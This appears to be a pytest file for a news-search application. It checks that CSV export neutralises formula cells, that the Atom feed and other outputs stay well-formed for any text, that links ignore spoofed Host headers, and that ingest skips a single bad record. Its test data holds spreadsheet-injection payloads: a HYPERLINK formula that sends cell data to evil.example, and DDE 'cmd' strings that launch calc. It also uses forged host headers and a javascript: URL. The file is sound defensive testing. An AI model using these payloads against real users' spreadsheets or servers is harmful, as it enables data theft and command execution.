"""Hostile content in what we emit (issue 11 §5) and ingest that stops on one record
(§6): formula cells in CSV, characters XML cannot carry in the feed, links from the
Host header, lone surrogates in JSON Lines and non-UTF-8 file names. Everything here
goes through a real index on disk and the real app or CLI."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import shutil
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from click.testing import CliRunner
from flask import Flask
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markupsafe import escape

from search.cli import main
from search.export import csv_cell
from search.indexing import build
from search.readers.encoding import decode_bytes
from search.readers.pages import parse_page
from tests.conftest import cli, index_from_records
from web import create_app
from web.feed import xml_text
from web.logs import JsonFormatter

ATOM = "{http://www.w3.org/2005/Atom}"
SURROGATES = range(0xD800, 0xE000)


def _app(index: Path, **config: Any) -> Flask:
    return create_app({"TESTING": True, "INDEX": str(index), **config})


def _as_read(text: str) -> str:
    """What an XML parser reads back for ``text`` written by the feed: the forbidden
    characters gone, and line ends normalised to LF (XML 1.0 §2.11)."""
    return xml_text(text).replace("\r\n", "\n").replace("\r", "\n")


def _has_surrogate(text: str) -> bool:
    return any(0xD800 <= ord(c) < 0xE000 for c in text)


# ---------------------------------------------------------------- §5a CSV formulas

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]
HOSTILE_RECORDS = [
    {"id": f"f{i}", "title": f, "published": f"2021-03-{10 + i:02d}", "section": f,
     "source": f, "standfirst": f, "body": f"{f}\n\nformulaword paragraph {i}."}
    for i, f in enumerate(FORMULAS)
] + [
    {"id": "plain", "title": "A plain 'quoted' title", "published": "2021-03-01",
     "section": "World", "standfirst": "x = y, -not a formula", "body": "formulaword"},
]  # fmt: skip


@pytest.fixture(scope="module")
def formula_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return index_from_records(tmp_path_factory.mktemp("formulas"), HOSTILE_RECORDS)


def _csv_rows(text: str) -> dict[str, dict[str, str]]:
    return {r["id"]: r for r in csv.DictReader(io.StringIO(text, newline=""))}


def test_csv_export_neutralises_formula_cells_in_the_cli_and_the_api(formula_index: Path) -> None:
    runner = CliRunner()
    out = runner.invoke(main, ["export", "formulaword", "--body", "--index", str(formula_index)])
    assert out.exit_code == 0, out.output
    client = _app(formula_index).test_client()
    api = client.get("/api/export?q=formulaword&format=csv&body=true")
    assert api.status_code == 200
    for text in (out.stdout, api.get_data(as_text=True)):
        rows = _csv_rows(text)
        assert len(rows) == len(HOSTILE_RECORDS)
        for i, formula in enumerate(FORMULAS):
            row = rows[f"f{i}"]
            stored = formula.strip()  # the reader strips titles and fields
            for column in ("title", "section", "source", "standfirst"):
                assert row[column] == "'" + stored, (column, row[column])
                assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r"))
            assert row["body"].startswith("'" + stored[:1])
        plain = rows["plain"]
        assert plain["title"] == "A plain 'quoted' title"  # only a leading trigger counts
        assert plain["standfirst"] == "x = y, -not a formula"


def test_jsonl_export_stays_exact_and_round_trips(formula_index: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    first = runner.invoke(main, ["export", "formulaword", "--format", "jsonl", "--body",
                                 "--sort", "oldest", "--index", str(formula_index)])  # fmt: skip
    rows = [json.loads(line) for line in first.stdout.splitlines()]
    by_id = {r["id"]: r for r in rows}
    for i, formula in enumerate(FORMULAS):
        assert by_id[f"f{i}"]["title"] == formula.strip()  # no quote added
        assert by_id[f"f{i}"]["section"] == formula.strip()
    (tmp_path / "again.jsonl").write_text(first.stdout, encoding="utf-8")
    again = tmp_path / "again"
    build([tmp_path / "again.jsonl"], again)
    second = runner.invoke(main, ["export", "formulaword", "--format", "jsonl", "--body",
                                  "--sort", "oldest", "--index", str(again)])  # fmt: skip
    strip = ("score", "story")
    assert [{k: v for k, v in json.loads(line).items() if k not in strip}
            for line in second.stdout.splitlines()] == [
        {k: v for k, v in r.items() if k not in strip} for r in rows
    ]  # fmt: skip


# ---------------------------------------------------------- §5b any text, any format

#: Every code point XML 1.0 forbids or discourages that is not a surrogate: C0 and C1
#: controls, DEL, the noncharacters of every plane, and the private-use planes' ends.
NASTY = (
    "".join(map(chr, range(0x00, 0x20)))
    + "".join(map(chr, range(0x7F, 0xA0)))
    + "".join(map(chr, range(0xFDD0, 0xFDF0)))
    + "".join(chr(p * 0x10000 + 0xFFFE) + chr(p * 0x10000 + 0xFFFF) for p in range(17))
)


def _check_every_format(app: Flask, art: dict[str, Any], word: str) -> None:
    """Every output for an indexed article is well-formed and carries its text."""
    client = app.test_client()
    title = art["title"].strip()
    for url in (f"/feed?q={word}", "/feed", f"/feed?section={word}"):
        r = client.get(url)
        assert r.status_code == 200, url
        root = ET.fromstring(r.data)  # well-formed XML, whatever the text held
        if url != f"/feed?section={word}":
            titles = [e.findtext(f"{ATOM}title") for e in root.iter(f"{ATOM}entry")]
            assert _as_read(title) in titles
    page = client.get(f"/api/search?q={word}")
    assert page.status_code == 200
    hits = json.loads(page.data)["results"]
    assert [h["title"] for h in hits] == [title]  # JSON keeps the text exactly
    article = client.get(f"/api/articles/{art['id']}")
    assert json.loads(article.data)["title"] == title
    for url in (f"/?q={word}", f"/articles/{art['id']}"):
        r = client.get(url)
        assert r.status_code == 200
        html = r.data.decode("utf-8")  # strict: valid UTF-8
        assert str(escape(title)) in html  # the text, escaped
        assert "<script>" not in html
    exported = client.get(f"/api/export?q={word}&format=csv&body=true").get_data(as_text=True)
    (row,) = _csv_rows(exported).values()
    assert row["title"] == csv_cell(title)
    jsonl = client.get(f"/api/export?q={word}&format=jsonl&body=true").get_data(as_text=True)
    (line,) = jsonl.splitlines()
    assert json.loads(line)["title"] == title


def test_feed_and_every_format_survive_every_control_and_noncharacter(tmp_path: Path) -> None:
    art = {"id": "nasty", "title": f"Zebrafeed <script>x</script> {NASTY} end",
           "published": "2022-05-05", "section": f"Sec{NASTY}", "source": NASTY,
           "standfirst": f"Zebrafeed {NASTY}", "body": f"Zebrafeed {NASTY} zebrafeed"}  # fmt: skip
    index = index_from_records(tmp_path, [art])
    _check_every_format(_app(index), art, "zebrafeed")


def test_the_feed_is_xml_for_every_code_point(tmp_path: Path) -> None:
    """All 1,112,064 code points but the surrogates, 4,096 to a title, in one index."""
    records = []
    points = [c for c in range(0x110000) if c not in SURROGATES]
    for n, start in enumerate(range(0, len(points), 4096)):
        chunk = "".join(map(chr, points[start : start + 4096]))
        records.append({"id": f"cp{n}", "title": f"Qqcodepoint{n} {chunk}", "published":
                        "2022-01-01", "body": f"qqcodepoint{n} qqall"})  # fmt: skip
    index = index_from_records(tmp_path, records)
    client = _app(index).test_client()
    seen = 0
    for n, rec in enumerate(records):
        r = client.get(f"/feed?q=qqcodepoint{n}")
        (entry,) = ET.fromstring(r.data).iter(f"{ATOM}entry")
        assert entry.findtext(f"{ATOM}title") == _as_read(rec["title"].strip())
        seen += 1
    assert seen == len(records) == 272


def _indexed(text: str) -> Iterator[tuple[Path, dict[str, Any]]]:
    """An index (in a fresh folder) of one article with ``text`` in every text field."""
    folder = Path(tempfile.mkdtemp(prefix="emit-"))
    try:
        art = {"id": "gen", "title": f"Propword {text}", "published": "2020-02-02",
               "section": text or "S", "source": text, "standfirst": text,
               "body": f"propword {text}", "topics": [text.replace(",", " ")] if text.strip()
               else []}  # fmt: skip
        src = folder / "src"
        src.mkdir()
        # Written as JSON escapes (as an exporter writes them): lone surrogates included.
        anchor = {"id": "anchor", "title": "Anchor", "published": "2020-01-01"}
        (src / "one.jsonl").write_text(
            json.dumps(art) + "\n" + json.dumps(anchor) + "\n", encoding="ascii"
        )
        # As the reader will see it: an escaped surrogate pair is one character again.
        yield folder, json.loads(json.dumps(art))
    finally:
        shutil.rmtree(folder, ignore_errors=True)


#: Any code point at all: Hypothesis's characters() leaves the surrogates out, so they
#: are drawn on their own too.
ANY_CODE_POINT = st.one_of(
    st.characters(min_codepoint=0, max_codepoint=0x10FFFF, exclude_categories=()),
    st.integers(0xD800, 0xDFFF).map(chr),
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(ANY_CODE_POINT, max_size=40))
def test_any_stored_text_keeps_every_format_well_formed(text: str) -> None:
    for folder, art in _indexed(text):
        report = build([folder / "src"], folder / "index")
        if _has_surrogate(art["title"]):  # not text: one skip, never a traceback
            assert report.indexed == 1 and len(report.skipped) == 1  # the anchor
            assert report.skipped[0].path.endswith("one.jsonl:1")
            assert "lone surrogate" in report.skipped[0].reason
            continue
        assert report.indexed == 2, report.skipped
        _check_every_format(_app(folder / "index"), art, "propword")


# ------------------------------------------------------- §5c links and the Host header


@pytest.fixture(scope="module")
def link_index(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return index_from_records(tmp_path_factory.mktemp("links"), HOSTILE_RECORDS)


def _links(data: bytes) -> list[str]:
    root = ET.fromstring(data)
    hrefs = [el.get("href", "") for el in root.iter(f"{ATOM}link")]
    ids = [el.text or "" for el in root.iter(f"{ATOM}id")]
    return hrefs + ids


def test_links_start_with_the_configured_base_url_whatever_the_host(link_index: Path) -> None:
    client = _app(link_index, BASE_URL="https://news.example.org/archive/").test_client()
    headers = {"Host": "evil.example", "X-Forwarded-Host": "evil2.example",
               "X-Forwarded-Proto": "http"}  # fmt: skip
    links = _links(client.get("/feed?q=formulaword", headers=headers).data)
    assert len(links) > 10
    assert all(u.startswith("https://news.example.org/archive/") for u in links), links
    assert "https://news.example.org/archive/articles/plain" in links
    spec = client.get("/api/openapi.json", headers=headers).get_json()
    assert spec["servers"] == [{"url": "https://news.example.org/archive"}]


def test_without_a_base_url_links_follow_the_host_and_no_forwarded_header(
    link_index: Path,
) -> None:
    client = _app(link_index).test_client()
    headers = {"Host": "news.local:8080", "X-Forwarded-Host": "evil.example",
               "X-Forwarded-Proto": "https"}  # fmt: skip
    links = _links(client.get("/feed?q=formulaword", headers=headers).data)
    assert all(u.startswith("http://news.local:8080/") for u in links), links
    spec = client.get("/api/openapi.json", headers=headers).get_json()
    assert spec["servers"] == [{"url": "http://news.local:8080"}]


def test_the_base_url_comes_from_the_environment_and_a_bad_one_is_one_line(
    link_index: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NEWS_SEARCH_BASE_URL", "https://env.example.org")
    client = _app(link_index).test_client()
    links = _links(client.get("/feed?q=formulaword", headers={"Host": "evil.example"}).data)
    assert all(u.startswith("https://env.example.org/") for u in links), links
    env = {**os.environ, "NEWS_SEARCH_BASE_URL": "javascript:alert(1)"}
    r = cli_env(env, "serve", "--index", str(link_index), "--port", "1")
    assert r.returncode != 0
    assert r.stderr.strip().splitlines()[-1].startswith("Error: NEWS_SEARCH_BASE_URL: must be")
    assert "Traceback" not in r.stderr


def cli_env(env: dict[str, str], *args: str) -> Any:
    import subprocess
    import sys

    from tests.conftest import ROOT

    return subprocess.run([sys.executable, "-m", "search.cli", *args], cwd=ROOT,
                          capture_output=True, text=True, timeout=60, env=env)  # fmt: skip


# ------------------------------------------------------------- §6 one bad record


def _good(i: int) -> str:
    return json.dumps({"id": f"g{i}", "title": f"Good record {i}", "published": "2020-06-01",
                       "body": f"goodword number {i}"})  # fmt: skip


BAD_LINES = {
    "surrogate in the title": '{"id": "bad", "title": "Truncated \\ud83d", "published": "2020-06-01"}',
    "surrogate in the body": '{"id": "bad", "title": "T", "published": "2020-06-01", "body": ["ok", "\\udfff"]}',
    "surrogate in a topic": '{"id": "bad", "title": "T", "published": "2020-06-01", "topics": ["\\ud800x"]}',
    "surrogate in a key": '{"id": "bad", "title": "T", "published": "2020-06-01", "\\ud83d": 1}',
    "nested too deeply": "[" * 100_000 + "]" * 100_000,
}  # fmt: skip


@pytest.mark.parametrize("bad", BAD_LINES, ids=list(BAD_LINES))
def test_one_bad_record_is_one_skip_in_the_cli(tmp_path: Path, bad: str) -> None:
    src = tmp_path / "src"
    src.mkdir()
    lines = [_good(i) for i in range(500)]
    lines.insert(250, BAD_LINES[bad])  # line 251
    (src / "export.jsonl").write_text("\n".join(lines) + "\n", encoding="ascii")
    index = tmp_path / "index"
    r = cli("index", "build", str(src), "--index", str(index), "--json")
    assert r.returncode == 0, r.stderr  # skips are reported, not failures (README)
    assert "Traceback" not in r.stderr
    report = json.loads(r.stdout)
    assert report["indexed"] == 500 and report["articles"] == 500
    (skip,) = report["skipped"]
    assert skip["path"] == f"{src / 'export.jsonl'}:251"
    assert "\n" not in skip["reason"]
    if bad.startswith("surrogate"):
        assert "lone surrogate" in skip["reason"]
    plain = cli("index", "update", str(src), "--index", str(index))
    assert plain.returncode == 0 and "Traceback" not in plain.stderr
    assert f"{src / 'export.jsonl'}:251: " in plain.stdout + plain.stderr
    strict = cli("index", "build", str(src), "--index", str(index), "--strict")
    assert strict.returncode == 1 and "Traceback" not in strict.stderr
    assert strict.stderr.strip()


def test_a_file_name_that_is_not_utf8_is_one_skip(tmp_path: Path) -> None:
    src = tmp_path / "src"
    src.mkdir()
    page = (Path(__file__).parent / "fixtures" / "seed.txt").read_bytes()
    (src / "good.txt").write_bytes(page)
    bad = os.fsencode(src) + b"/bad\xffname.txt"
    with open(bad, "wb") as f:
        f.write(page.replace(b"Taliban", b"Talibanx"))
    (src / "export.jsonl").write_text(_good(1) + "\n", encoding="ascii")
    r = cli("index", "build", str(src), "--index", str(tmp_path / "index"), "--json")
    assert r.returncode == 0 and "Traceback" not in r.stderr, r.stderr
    report = json.loads(r.stdout)
    assert report["indexed"] == 2
    (skip,) = report["skipped"]
    assert skip["path"] == f"{src}/bad\\xffname.txt"
    assert "not UTF-8" in skip["reason"]


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=600))
def test_no_decoded_page_holds_a_surrogate(data: bytes) -> None:
    """Bytes read from disk are decoded with error handlers (Windows-1252 for stray
    bytes, U+FFFD for broken UTF-16/32): none of them makes a surrogate."""
    assert not _has_surrogate(decode_bytes(data))
    for prefix in (b"", b"\xff\xfe", b"\xfe\xff", b"\xff\xfe\x00\x00", b"\xef\xbb\xbf"):
        assert not _has_surrogate(decode_bytes(prefix + data))
        result = parse_page(prefix + b"29 April 2023\n\nHeadline\n\n" + data, "p.txt")
        for value in vars(result).values():
            texts = value if isinstance(value, tuple) else (value,)
            assert not any(isinstance(t, str) and _has_surrogate(t) for t in texts)


@given(st.text())
@example("\x85").via("found by Schemathesis in a path")
@example("a\u2028b\u2029c")
def test_a_log_line_is_one_line_for_any_text(text: str) -> None:
    """Paths and queries go into the log as they came: U+0085 or U+2028 in one split the
    JSON line for a reader using str.splitlines() (Schemathesis found it)."""
    record = logging.LogRecord("news_search.access", logging.INFO, __file__, 1, text, None, None)
    record.fields = {"path": "/api/articles/" + text}
    line = JsonFormatter().format(record)
    assert len(line.splitlines()) == 1
    data = json.loads(line)
    assert data.get("message", "") == text and data["path"] == "/api/articles/" + text
